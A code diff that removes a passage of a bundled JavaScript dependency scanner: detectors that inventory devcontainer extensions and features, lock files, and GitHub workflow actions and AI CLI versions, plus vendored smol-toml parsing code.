-            const c = extensionComponent(strValue(n) ?? '', path, lineOf(n), DEVCONTAINER_SOURCE);
-            if (c)
-                components.push(c);
-        }
-    }
-    return { components, errors };
-}
-/** `publisher.name` or `publisher.name@1.2.3`; `-publisher.name` (a removal) yields nothing. */
-function extensionComponent(id, file, line, source) {
-    const m = /^\s*([A-Za-z0-9][\w-]*\.[A-Za-z0-9][\w.-]*)(?:@(.+))?\s*$/.exec(id);
-    if (!m)
-        return null;
-    const pin = m[2];
-    const version = pin && semverLike(pin) ? semverLike(pin) : null;
-    return makeComponent({
-        ecosystem: 'vscode-extension',
-        name: m[1].toLowerCase(),
-        version,
-        ...(version === null ? { spec: pin ?? 'latest' } : {}),
-        location: { file, line },
-        source,
-        sourceKind: 'registry',
-    });
-}
-/** The folder the lifecycle commands run in: the parent of `.devcontainer`, else the config's folder. */
-function workspaceRoot(path) {
-    const parts = path.split('/');
-    const i = parts.lastIndexOf('.devcontainer');
-    if (i >= 0)
-        return parts.slice(0, i).join('/');
-    return dirOf(path);
-}
-/**
- * Scans a repository script run by a lifecycle command (or a local feature's install.sh); its
- * components are located in the script, as the shell-script detector reports them. Follows the
- * scripts it runs in turn. Returns whether the script exists.
- */
-async function scanScriptFile(input, path, components, errors, env, visited) {
-    if (visited.has(path))
-        return true;
-    if (visited.size > 32)
-        return false;
-    const text = await input.readFile(path);
-    if (text === null)
-        return false;
-    visited.add(path);
-    const lines = new LineIndex(text);
-    const scanner = new CommandScanner(env);
-    scanner.scan(text, (o) => lines.line(o));
-    scanner.finish();
-    for (const f of scanner.findings)
-        components.push(findingComponent(f, path, SHELL_SCRIPT_SOURCE));
-    if (!/\.(sh|bash)$/.test(path))
-        for (const p of scanner.problems)
-            errors.push(problemError(p, path));
-    const dir = dirOf(path);
-    for (const run of scanner.scriptRuns) {
-        const p = joinRelative(dir, run.path);
-        const fromRoot = joinRelative('', run.path);
-        for (const candidate of [fromRoot, p]) {
-            if (candidate !== null &&
-                (await scanScriptFile(input, candidate, components, errors, new Map(), visited)))
-                break;
-        }
-    }
-    return true;
-}
-const devcontainerDetector = {
-    id: DEVCONTAINER_SOURCE,
-    matches: isDevcontainerPath,
-    detect: scanDevcontainer,
-};
-
-;// CONCATENATED MODULE: ./src/detectors/devcontainer-lock.ts
-
-
-
-
-
-const DEVCONTAINER_LOCK_SOURCE = 'devcontainer-lock.json';
-function scanDevcontainerLock({ path, text, limits, }) {
-    const lines = new LineIndex(text);
-    const { root, errors } = parseJsonc(text, path, lines, limits.maxDepth);
-    const components = [];
-    for (const f of props(at(root, ['features']))) {
-        const ref = featureRef(f.key);
-        const known = knownFeature(ref.name);
-        const featureVersion = strValue(at(f.value, ['version']));
-        const resolved = strValue(at(f.value, ['resolved']));
-        const integrity = strValue(at(f.value, ['integrity']));
-        // The lock records the feature's version, not the tool's: a feature that takes no version
-        // option installs its default; otherwise the tool version is set in devcontainer.json.
-        const toolDefault = known && !known.versionOption ? known.defaultVersion : undefined;
-        components.push(makeComponent({
-            ecosystem: 'devcontainer-feature',
-            name: ref.name,
-            version: null,
-            ...(toolDefault ? { spec: toolDefault } : {}),
-            location: { file: path, line: lines.line(f.keyNode.offset) },
-            source: DEVCONTAINER_LOCK_SOURCE,
-            sourceKind: ref.kind,
-            resolved: resolved ?? f.key,
-            ...(integrity ? { integrity } : {}),
-            ...(featureVersion
-                ? { versionNote: `feature version ${featureVersion} (the lock does not record the tool version)` }
-                : {}),
-        }));
-    }
-    return { components, errors };
-}
-const devcontainerLockDetector = {
-    id: DEVCONTAINER_LOCK_SOURCE,
-    matches: (p) => /(^|\/)\.?devcontainer-lock\.json$/.test(p),
-    detect: scanDevcontainerLock,
-};
-
-;// CONCATENATED MODULE: ./src/detectors/github-workflow.ts
-// GitHub workflows (`.github/workflows/*.yml|yaml`) and composite actions (`action.yml|yaml`):
-// `uses:` of actions and reusable workflows (tag, branch or commit SHA, at the `uses:` line),
-// the tool-version inputs of known AI actions, and the commands of `run:` steps, each at its own
-// line inside the block scalar. `${{ … }}` expressions are unknown values kept as written.
-
-
-
-
-
-
-const WORKFLOW_SOURCE = 'github-workflow';
-function isWorkflowPath(p) {
-    return /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(p) || /(^|\/)action\.ya?ml$/i.test(p);
-}
-/**
- * Action inputs that set the version of the CLI an AI action installs, and the npm package of
- * that CLI. Keys are `owner/repo` lowercased.
- */
-const VERSION_INPUTS = {
-    'openai/codex-action': [{ input: 'codex-version', npm: '@openai/codex' }],
-    'google-github-actions/run-gemini-cli': [{ input: 'gemini_cli_version', npm: '@google/gemini-cli' }],
-    'google-gemini/gemini-cli-action': [{ input: 'gemini_cli_version', npm: '@google/gemini-cli' }],
-    'qwenlm/qwen-code-action': [{ input: 'qwen_cli_version', npm: '@qwen-code/qwen-code' }],
-};
-function scanWorkflow(input) {
-    const { path, text } = input;
-    const parsed = parseYaml(text, path, input.limits.maxDepth);
-    const errors = [...parsed.errors];
-    const components = [];
-    const { doc } = parsed;
-    const rootEnv = envOf(parsed, get(doc, doc.contents, 'env'), new Map());
-    const scanSteps = (steps, env) => {
-        for (const step of items(doc, steps)) {
-            const stepEnv = envOf(parsed, get(doc, step, 'env'), env);
-            usesOf(parsed, step, path, components);
-            const run = get(doc, step, 'run');
-            const script = str(run);
-            if (script !== undefined) {
-                const locate = scalarLocator(parsed.lines, run);
-                const scanner = new CommandScanner(new Map(stepEnv));
-                scanner.scan(script, (o) => locate(o, script));
-                scanner.finish();
-                for (const f of scanner.findings)
-                    components.push(findingComponent(f, path, WORKFLOW_SOURCE));
-                for (const p of scanner.problems)
-                    errors.push(problemError(p, path, 'run'));
-            }
-        }
-    };
-    for (const job of pairs(doc, get(doc, doc.contents, 'jobs'))) {
-        const jobEnv = envOf(parsed, get(doc, job.value, 'env'), rootEnv);
-        usesOf(parsed, job.value, path, components);
-        scanSteps(get(doc, job.value, 'steps'), jobEnv);
-    }
-    // Composite actions.
-    scanSteps(get(doc, get(doc, doc.contents, 'runs'), 'steps'), rootEnv);
-    return { components, errors };
-}
-function envOf(parsed, node, base) {
-    const env = new Map(base);
-    for (const p of pairs(parsed.doc, node)) {
-        const v = str(p.value);
-        if (v !== undefined)
-            env.set(p.key, { text: v, unknown: v.includes('${{') });
-    }
-    return env;
-}
-/** The `uses:` of a step or job, and the version inputs of known AI actions in its `with:`. */
-function usesOf(parsed, owner, file, out) {
-    const { doc, lines } = parsed;
-    const uses = get(doc, owner, 'uses');
-    const ref = str(uses);
-    if (ref === undefined || !(0,dist/* isScalar */.jn)(uses))
-        return;
-    const value = ref.trim();
-    if (value.startsWith('./') || value.startsWith('.\\') || value.startsWith('docker://'))
-        return;
-    const at = value.lastIndexOf('@');
-    if (at <= 0)
-        return;
-    const name = value.slice(0, at);
-    const version = value.slice(at + 1);
-    if (!/^[\w.-]+\/[\w.-]+(\/[^@\s]+)?$/.test(name) || !version)
-        return;
-    // The line of the `uses:` key: the pair's value starts on it (or the line below for a block).
-    const line = lineOf(lines, uses);
-    out.push(makeComponent({
-        ecosystem: 'github-action',
-        name,
-        version,
-        location: { file, line },
-        source: WORKFLOW_SOURCE,
-        sourceKind: 'git',
-    }));
-    const repo = name.split('/').slice(0, 2).join('/').toLowerCase();
-    for (const vi of VERSION_INPUTS[repo] ?? []) {
-        for (const p of pairs(doc, get(doc, owner, 'with'))) {
-            if (p.key !== vi.input)
-                continue;
-            const v = str(p.value)?.trim();
-            if (!v)
-                continue;
-            const exact = v.includes('${{') ? null : exactVersion(v);
-            out.push(makeComponent({
-                ecosystem: 'npm',
-                name: vi.npm,
-                version: exact,
-                ...(exact === null ? { spec: v } : {}),
-                location: { file, line: lineOf(lines, p.keyNode) },
-                source: WORKFLOW_SOURCE,
-                sourceKind: 'registry',
-            }));
-        }
-    }
-}
-const githubWorkflowDetector = {
-    id: WORKFLOW_SOURCE,
-    matches: isWorkflowPath,
-    detect: scanWorkflow,
-};
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/error.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-function getLineColFromPtr(string, ptr) {
-    let lines = string.slice(0, ptr).split(/\r?\n/);
-    return [lines.length, lines.pop().length + 1];
-}
-function makeCodeBlock(string, line, column) {
-    let lines = string.split(/\r?\n/);
-    let codeblock = '';
-    let numberLen = (Math.log10(line + 1) | 0) + 1;
-    for (let i = line - 1; i <= line + 1; i++) {
-        let l = lines[i - 1];
-        if (!l)
-            continue;
-        codeblock += i.toString().padEnd(numberLen, ' ');
-        codeblock += ':  ';
-        codeblock += l;
-        codeblock += '\n';
-        if (i === line) {
-            codeblock += ' '.repeat(numberLen + column + 2);
-            codeblock += '^\n';
-        }
-    }
-    return codeblock;
-}
-class TomlError extends Error {
-    line;
-    column;
-    codeblock;
-    constructor(message, options) {
-        const [line, column] = getLineColFromPtr(options.toml, options.ptr);
-        const codeblock = makeCodeBlock(options.toml, line, column);
-        super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
-        this.line = line;
-        this.column = column;
-        this.codeblock = codeblock;
-    }
-    /** @internal */
-    static x(message, ctx, ptr) {
-        throw new TomlError(message, { toml: ctx.s, ptr: ptr ?? ctx.p });
-    }
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/primitive.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-
-/** @internal */
-function parseString(ctx) {
-    let startPtr = ctx.p;
-    let c = ctx.s.charCodeAt(ctx.p++);
-    let first = c;
-    let isLiteral = c === 0x27; /* ' */
-    let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
-    if (isMultiline) {
-        // Trim initial newline
-        if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 0xa /* \n */)
-            ctx.p++;
-        else if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)
-            ctx.p += 2;
-    }
-    // For the record: it is not worth it to use a fast-path for literal strings using `indexOf`.
-    // Doing a char-by-char iteration ends up dispatching less instructions, for the same wall-clock runtime.
-    let parsed = '';
-    let sliceStart = ctx.p;
-    // states:
-    //   0 - decoding
-    //   1 - decoding escape
-    //   2 - whitespace escape (no newline encountered yet, must fail on non-whitespace)
-    //   3 - whitespace escape (newline encountered, allowed to transition back to normal decode)
-    let state = 0;
-    for (; ctx.p < ctx.s.length; ctx.p++) {
-        c = ctx.s.charCodeAt(ctx.p);
-        // Deal with newlines first, since that simplifies control character checking and handling across all states
-        if (isMultiline && (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */))) {
-            state = state && 3;
-        }
-        // Control characters are banned in TOML, so we throw an error if we encounter them
-        else if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
-            TomlError.x('control characters are not allowed in strings', ctx);
-        }
-        // The string might terminate while we're parsing through a newline escape.
-        // It must have encountered a newline; otherwise, it'll simply fail in another branch.
-        else if ((!state || state === 3) && c === first && (!isMultiline || (ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first))) {
-            if (isMultiline) {
-                // If the string ends with 4-5 quotes, then the first 1-2 are part of the string
-                if (ctx.s.charCodeAt(ctx.p + 3) === first)
-                    ctx.p++;
-                if (ctx.s.charCodeAt(ctx.p + 3) === first)
-                    ctx.p++;
-            }
-            // If we're in a newline escape still, then there's nothing to add.
-            if (!state) {
-                // Avoid a useless concat operation if the string can be used as-is.
-                let s = ctx.s.slice(sliceStart, ctx.p);
-                parsed = parsed ? parsed + s : s;
-            }
-            ctx.p += isMultiline ? 3 : 1;
-            return parsed;
-        }
-        // Baseline state; keep moving forward unless an escape sequence starts
-        else if (!state) {
-            if (!isLiteral && c === 0x5c /* \ */) {
-                parsed += ctx.s.slice(sliceStart, (sliceStart = ctx.p));
-                state = 1;
-            }
-        }
-        else if (state === 1) {
-            if (c === 0x78 /* x */ || c === 0x75 /* u */ || c === 0x55 /* U */) { // Unicode escape
-                let errPtr = ctx.p++ - 1;
-                let value = 0;
-                let len = c === 0x78 /* x */ ? 2 : c === 0x75 /* u */ ? 4 : 8;
-                for (let j = 0; j < len; j++, ctx.p++) {
-                    let hex = ctx.s.charCodeAt(ctx.p);
-                    let digit = 
-                    /* 0-9 */ hex >= 0x30 && hex <= 0x39 ? hex - 0x30 :
-                        /* A-F */ hex >= 0x41 && hex <= 0x46 ? hex - 0x41 + 10 :
-                            /* a-f */ hex >= 0x61 && hex <= 0x66 ? hex - 0x61 + 10 : -1;
-                    if (digit < 0)
-                        TomlError.x('invalid non-hex character in unicode escape', ctx);
-                    value = (value << 4) | digit;
-                }
-                // Because JS does bitwise on signed 32bit integers, all 0xfzzzzzzz values are actually seen as negative
-                if (value < 0 || value > 0x10ffff || (value >= 0xd800 && value <= 0xdfff)) {
-                    TomlError.x('invalid unicode escape', ctx, errPtr);
-                }
-                parsed += String.fromCodePoint(value);
-                sliceStart = ctx.p--;
-                state = 0;
-            }
-            // Newline escape sequence. We only need to care about spaces and tabs; newlines are dealt with earlier
-            else if (isMultiline && (c === 0x20 || c === 0x9 /* \t */)) {
-                state = 2;
-            }
-            // Basic escape sequence
-            else {
-                if (c === 0x62 /* b */)
-                    parsed += '\b';
-                else if (c === 0x74 /* t */)
-                    parsed += '\t';
-                else if (c === 0x6e /* n */)
-                    parsed += '\n';
-                else if (c === 0x66 /* f */)
-                    parsed += '\f';
-                else if (c === 0x72 /* r */)
-                    parsed += '\r';
-                else if (c === 0x65 /* e */)
-                    parsed += '\x1b';
-                else if (c === 0x22 /* " */)
-                    parsed += '"';
-                else if (c === 0x5c /* \ */)
-                    parsed += '\\';
-                else
-                    TomlError.x('unrecognised escape sequence', ctx);
-                sliceStart = ctx.p + 1;
-                state = 0;
-            }
-        }
-        // Newline escape continuation: keep moving forward until the first non-whitespace char
-        else if (c !== 0x20 && c !== 0x9 /* \t */) {
-            if (state === 2)
-                TomlError.x('invalid escape: only line-ending whitespace may be escaped', ctx, sliceStart);
-            // State cannot be zero, or we'd have branched earlier already.
-            // If it's a backslash, immediately transition to the escape state so it can be processed.
-            state = !isLiteral && c === 0x5c /* \ */ ? 1 : 0;
-            sliceStart = ctx.p;
-        }
-    }
-    TomlError.x('unfinished string', ctx, startPtr);
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/date.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
-class TomlDate extends Date {
-    #hasDate = false;
-    #hasTime = false;
-    #offset = null;
-    constructor(date, fasttype, unsafeDelim) {
-        let hasDate = true;
-        let hasTime = true;
-        let offset = 'Z';
-        let c;
-        if (typeof date === 'string') {
-            if (fasttype)
-                prep: {
-                    // Date-time
-                    if (fasttype < 3) {
-                        if (+date.slice(11, 13) > 23) {
-                            date = '';
-                            break prep;
-                        }
-                        // Local
-                        if (fasttype === 2) {
-                            offset = null;
-                            date += 'Z';
-                        }
-                        // Offset; keep track of offset if not Z
-                        else if ((c = date.charCodeAt(date.length - 1)) !== 0x5a /* Z */ && c !== 0x7a /* z */) {
-                            offset = date.slice(date.length - 6);
-                        }
-                        if (unsafeDelim)
-                            date = date.slice(0, 10) + 'T' + date.slice(11);
-                    }
-                    // Time
-                    else if (fasttype === 4) {
-                        date = +date.slice(0, 2) > 23 ? '' : `0000-01-01T${date}Z`;
-                    }
-                    hasDate = fasttype !== 4;
-                    hasTime = fasttype !== 3;
-                }
-            else {
-                let match = date.match(DATE_TIME_RE);
-                if (match) {
-                    if (!match[1]) {
-                        hasDate = false;
-                        date = `0000-01-01T${date}`;
-                    }
-                    hasTime = !!match[2];
-                    // Make sure to use T instead of a space. Breaks in case of extreme values otherwise.
-                    hasTime && date[10] === ' ' && (date = date.replace(' ', 'T'));
-                    // Do not allow rollover hours.
-                    if (match[2] && +match[2] > 23) {
-                        date = '';
-                    }
-                    else {
-                        offset = match[3] || null;
-                        if (!offset && hasTime)
-                            date += 'Z';
-                    }
-                }
-                else {
-                    date = '';
-                }
-            }
-        }
-        super(date);
-        if (!isNaN(this.getTime())) {
-            this.#hasDate = hasDate;
-            this.#hasTime = hasTime;
-            this.#offset = offset;
-        }
-    }
-    isDateTime() {
-        return this.#hasDate && this.#hasTime;
-    }
-    isLocal() {
-        return !this.#hasDate || !this.#hasTime || !this.#offset;
-    }
-    isDate() {
-        return this.#hasDate && !this.#hasTime;
-    }
-    isTime() {
-        return this.#hasTime && !this.#hasDate;
-    }
-    isValid() {
-        return this.#hasDate || this.#hasTime;
-    }
-    toISOString() {
-        let iso = super.toISOString();
-        // Local Date
-        if (this.isDate())
-            return iso.slice(0, 10);
-        // Local Time
-        if (this.isTime())
-            return iso.slice(11, 23);
-        // Local DateTime
-        if (this.#offset === null)
-            return iso.slice(0, -1);
-        // Offset DateTime
-        if (this.#offset === 'Z' || this.#offset === 'z')
-            return iso;
-        // This part is quite annoying: JS strips the original timezone from the ISO string representation
-        // Instead of using a "modified" date and "Z", we restore the representation "as authored"
-        let offset = (+(this.#offset.slice(1, 3)) * 60) + +(this.#offset.slice(4, 6));
-        offset = this.#offset[0] === '-' ? offset : -offset;
-        let offsetDate = new Date(this.getTime() - (offset * 60e3));
-        return offsetDate.toISOString().slice(0, -1) + this.#offset;
-    }
-    static wrapAsOffsetDateTime(jsDate, offset = 'Z') {
-        let date = new TomlDate(jsDate);
-        date.#offset = offset;
-        return date;
-    }
-    static wrapAsLocalDateTime(jsDate) {
-        let date = new TomlDate(jsDate);
-        date.#offset = null;
-        return date;
-    }
-    static wrapAsLocalDate(jsDate) {
-        let date = new TomlDate(jsDate);
-        date.#hasTime = false;
-        date.#offset = null;
-        return date;
-    }
-    static wrapAsLocalTime(jsDate) {
-        let date = new TomlDate(jsDate);
-        date.#hasDate = false;
-        date.#offset = null;
-        return date;
-    }
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/extract.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-
-
-
-
-function isDigit(char, base = 10) {
-    return base === 16
-        ? (char > 0x2f && char < 0x3a) || (char > 0x40 && char < 0x47) || (char > 0x60 && char < 0x67)
-        : (char > 0x2f && char < 0x30 + base);
-}
-function isEndOfValue(char, delim) {
-    // Whitespace -- we're permissive on `\r` for performance; it'll be dealt with later anyway
-    return char === 0x20 || char === 0x9 /* \t */ || char === 0xa /* \n */ || char === 0xd /* \r */ ||
-        // Structure end or next value delimiter
-        (delim && (char === delim || char === 0x2c /* , */)) ||
-        // Comment
-        char === 0x23; /* # */
-}
-/** @internal */
-function extractValue(ctx, end) {
-    let errPtr = ctx.p;
-    let c = ctx.s.charCodeAt(ctx.p);
-    // Structs
-    if (c === 0x5b /* [ */ || c === 0x7b /* { */) {
-        ctx.d-- || TomlError.x('document contains excessively nested structures. aborting.', ctx);
-        let value = c === 0x5b /* [ */
-            ? parseArray(ctx)
-            : parseInlineTable(ctx);
-        ctx.d++;
-        return value;
-    }
-    // Strings
-    if (c === 0x22 /* " */ || c === 0x27 /* ' */) {
-        return parseString(ctx);
-    }
-    // Booleans
-    // We can fast-path because the first character is enough to know the only possible value
-    if (c === 0x74 /* t */) { // Only possible valid value is `true`
-        if (ctx.s.charCodeAt(++ctx.p) !== 0x72 || ctx.s.charCodeAt(++ctx.p) !== 0x75 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
-            TomlError.x('invalid value', ctx, errPtr);
-        return ctx.p++, true;
-    }
-    if (c === 0x66 /* f */) { // Only possible valid value is `false`
-        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6c || ctx.s.charCodeAt(++ctx.p) !== 0x73 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
-            TomlError.x('invalid value', ctx, errPtr);
-        return ctx.p++, false;
-    }
-    if (c === 0x2b /* + */ || c === 0x2d /* - */) {
-        return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 0x2c - c, end);
-    }
-    // Rough heuristic, but `parseDate` falls back to number parsing if it's a false positive.
-    // e.g.: `a = 1\n-------------- = 1` would match this heuristic, but gracefully fallback to numbers.
-    if (ctx.s.charCodeAt(ctx.p + 4) === 0x2d /* - */ && ctx.s.charCodeAt(ctx.p + 7) === 0x2d /* - */) {
-        return parseDate(ctx, c, end);
-    }
-    // Same logic as above; `parseTime` falls back to number parsing if it's a false positive.
-    if (ctx.s.charCodeAt(ctx.p + 2) === 0x3a /* : */) {
-        return parseTime(ctx, c, end);
-    }
-    return parseNumber(ctx, ctx.p, c, 0, end);
-}
-// State:
-// 0: init
-// 1: integer
-// 2: fractional dot
-// 3: fractional
-// 4: exponent letter
-// 5: exponent
-// 6: exponent sign
-// 7: exponent with sign
-// >9: underscore; see below
-//     -> 12: was integer
-//     -> 14: was fractional
-//     -> 16: was exponent
-// states 2-5, 14, 16 are ONLY permitted iif base === 10
-function parseNumber(ctx, startPtr, startChr, sign, endChr) {
-    let c = startChr;
-    let state = 0;
-    let hasUnderscores = false;
-    // (+/-)inf
-    if (c === 0x69 /* i */) {
-        if (ctx.s.charCodeAt(++ctx.p) !== 0x6e || ctx.s.charCodeAt(++ctx.p) !== 0x66)
-            TomlError.x('invalid value', ctx, startPtr);
-        return ctx.p++, (sign || 1) / 0;
-    }
-    // (+/-)nan
-    if (c === 0x6e /* n */) {
-        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6e)
-            TomlError.x('invalid value', ctx, startPtr);
-        return ctx.p++, NaN;
-    }
-    // Leading zero
-    // Only allowed cases: `0<EOV>`, `0.(...)`, `0e(...)`, `0x(...)`, `0b(...)`, `0o(...)`
-    // FWIW, `0e(...)` is a stupid case, but it's not banned per-se so we have to parse it
-    if (c === 0x30 /* 0 */) {
-        if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
-            return ctx.bi === true ? 0n : 0; // note: conveniently deals with `-0`
-        if (!sign) {
-            if (c === 0x78 /* x */)
-                return parseIntegerBaseN(ctx, startPtr, 16, endChr);
-            else if (c === 0x62 /* b */)
-                return parseIntegerBaseN(ctx, startPtr, 2, endChr);
-            else if (c === 0x6f /* o */)
-                return parseIntegerBaseN(ctx, startPtr, 8, endChr);
-        }
-        if (c === 0x2e /* . */)
-            state = 2;
-        else if (c === 0x65 /* e */ || c === 0x45 /* E */)
-            state = 4;
-        else
-            TomlError.x('illegal leading zero', ctx, startPtr);
-    }
-    // If the 1st char is not a digit by now, then it's not a valid TOML value at all
-    else if (!isDigit(c))
-        TomlError.x('invalid value', ctx, startPtr);
-    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
-        if (!state)
-            state = 1; // Detects single-digit numbers we can use a fast parse path for
-        // The way the states are numbered is not random: underscores are always permitted in odd-numbered states and
-        // never permitted in even-numbered ones.
-        if (c === 0x5f /* _ */) {
-            if (!(state & 1))
-                TomlError.x('illegal underscore', ctx);
-            state += 11; // 11 is a marker that makes the state even and greater than 9; see the numbering + rationale above
